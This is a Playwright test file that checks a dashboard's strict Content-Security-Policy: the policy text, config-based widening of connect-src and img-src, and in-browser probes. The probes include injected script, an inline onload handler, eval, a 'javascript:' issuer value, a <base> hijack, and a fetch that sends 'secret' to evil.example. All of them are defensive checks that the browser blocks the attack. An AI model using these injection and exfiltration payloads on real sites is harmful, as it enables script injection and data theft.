// The release build's strict Content-Security-Policy (scripts/csp.mjs): what the built page
// carries, and the attacks it stops in a real browser. That the page works under it is every other
// test: a violation is a console error, and the `problems` fixture fails the test on it.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { test, expect } from './dashboard-page.mjs';
import { policyFor } from '../../scripts/csp.mjs';

const REPO_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const DIST = path.resolve(REPO_ROOT, process.env.NINES_DIST || 'dist');

/** Records every violation the page reports, before any of its scripts runs. */
async function recordViolations(page, problems) {
  problems.tolerateConsoleError(({ text }) => /Content.Security.Policy/.test(text));
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
}

const violations = (page) => page.evaluate(() => window.__violations);

test('the built page carries the policy, from its config, and no inline script', async ({ page, dashboard }) => {
  const html = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
  const config = JSON.parse(fs.readFileSync(path.join(DIST, 'config.json'), 'utf8'));
  const policy = policyFor(config);
  expect(policy).toBe(
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data: blob:; " +
      "connect-src 'self'; worker-src 'self' blob:; object-src 'none'; base-uri 'none'; form-action 'none'",
  );
  expect(html).toMatch(new RegExp(`^<!doctype html><html lang=en><meta charset=utf-8><meta http-equiv=Content-Security-Policy content="${policy.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}">`));
  expect(html.match(/<script[^>]*>[^<]+<\/script>/g), 'no script with a body').toBeNull();
  const loader = html.match(/<script type=module src=\.\/(loader-[0-9a-f]{16}\.js) integrity=(sha384-[A-Za-z0-9+/=]+)><\/script>/);
  expect(loader, 'the loader is a file with its integrity').not.toBeNull();
  expect(fs.readFileSync(path.join(DIST, loader[1]), 'utf8')).toContain('await init(');

  // The served page is the one on disk: the policy is in force, and the page works under it.
  await dashboard.goto();
  await dashboard.waitLoaded();
  expect(await page.evaluate(() => document.querySelector('meta[http-equiv=Content-Security-Policy]')?.content)).toBe(policy);
});

test('a config that allows other origins, folders and a logo elsewhere widens connect-src and img-src, nothing else', () => {
  const policy = policyFor({
    allow_origins: ['https://status.example.com/', 'https://prom.example.net:9090', 'not an origin'],
    allow_url_prefixes: ['https://raw.example/acme/status', 'https://raw.example/x;script-src*/', 'https://raw.example/', 7],
    logo_url: 'https://cdn.example.org/logo.svg',
  });
  expect(policy).toContain("connect-src 'self' https://status.example.com https://prom.example.net:9090 https://raw.example/acme/status/;");
  expect(policy).toContain("img-src 'self' data: blob: https://cdn.example.org;");
  expect(policyFor({ logo_url: 'img/logo.svg' })).toContain("img-src 'self' data: blob:;");
  expect(policyFor(null)).toContain("connect-src 'self';");
});

test('a config that signs in adds the origin it signs in at to connect-src, nothing else', () => {
  const microsoft = policyFor({ auth: { provider: 'microsoft', tenant: 't', client_id: 'c' }, allow_origins: ['https://graph.microsoft.com'] });
  expect(microsoft).toContain("connect-src 'self' https://graph.microsoft.com https://login.microsoftonline.com;");
  const openid = policyFor({ auth: { provider: 'openid', issuer: 'https://id.example.com/realms/ops', client_id: 'c' } });
  expect(openid).toContain("connect-src 'self' https://id.example.com;");
  expect(policyFor({ auth: { provider: 'openid', issuer: 'javascript:alert(1)' } })).toContain("connect-src 'self';");
  expect(microsoft.replace(/connect-src [^;]*;/, '')).toBe(policyFor(null).replace(/connect-src [^;]*;/, ''));
});

test('injected script, eval, inline handlers and style attributes do not run', async ({ page, dashboard, problems }) => {
  await recordViolations(page, problems);
  // A script of the page's own origin that tries eval (DevTools' own evaluation is exempt, so the
  // attempt must come from the page).
  await page.route('**/nines/probe-eval.js', (route) =>
    route.fulfill({
      status: 200,
      contentType: 'text/javascript',
      body: 'try { window.__eval = eval("\'eval ran\'"); } catch (error) { window.__eval = error.name; }',
    }),
  );
  await dashboard.goto();
  await dashboard.waitLoaded();
  const color = await page.evaluate(() => {
    // Text from data that reached the DOM as markup would be an attack: none of it may run.
    const script = document.createElement('script');
    script.textContent = 'window.__injected = "script"';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onload="window.__injected = \'handler\'">');
    const probe = document.createElement('script');
    probe.src = './probe-eval.js';
    document.body.append(probe);
    const styled = document.createElement('p');
    styled.setAttribute('style', 'color: rgb(1, 2, 3)');
    document.body.append(styled);
    return getComputedStyle(styled).color;
  });
  await expect.poll(() => page.evaluate(() => window.__eval ?? null), { message: 'the probe ran' }).not.toBeNull();
  expect(await page.evaluate(() => window.__eval), 'eval is refused').toBe('EvalError');
  expect(await page.evaluate(() => window.__injected ?? null), 'no injected script or handler ran').toBeNull();
  expect(color, 'a style attribute does not apply').not.toBe('rgb(1, 2, 3)');
  const seen = await violations(page);
  for (const directive of ['script-src-elem inline', 'script-src-attr inline', 'script-src eval', 'style-src-attr inline']) {
    expect(seen, directive).toContain(directive);
  }
});

test('the page cannot be made to send data to, or take its base from, a site the config does not allow', async ({ page, dashboard, problems }) => {
  await recordViolations(page, problems);
  let reached = false;
  await page.route('https://evil.example/**', (route) => {
    reached = true;
    return route.fulfill({ status: 200, body: 'stolen' });
  });
  await dashboard.goto();
  await dashboard.waitLoaded();
  const outcome = await page.evaluate(async () => {
    let fetched;
    try {
      await fetch('https://evil.example/collect?data=secret');
      fetched = 'sent';
    } catch (error) {
      fetched = error.name;
    }
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.prepend(base);
    return { fetched, baseURI: document.baseURI };
  });
  expect(outcome.fetched, 'the browser refuses the request').toBe('TypeError');
  expect(reached, 'nothing reached the other site').toBe(false);
  expect(outcome.baseURI, 'a <base> element is ignored').not.toContain('evil.example');
  const seen = await violations(page);
  expect(seen).toContain('connect-src https://evil.example/collect?data=secret');
  expect(seen).toContain('base-uri https://evil.example/');
});
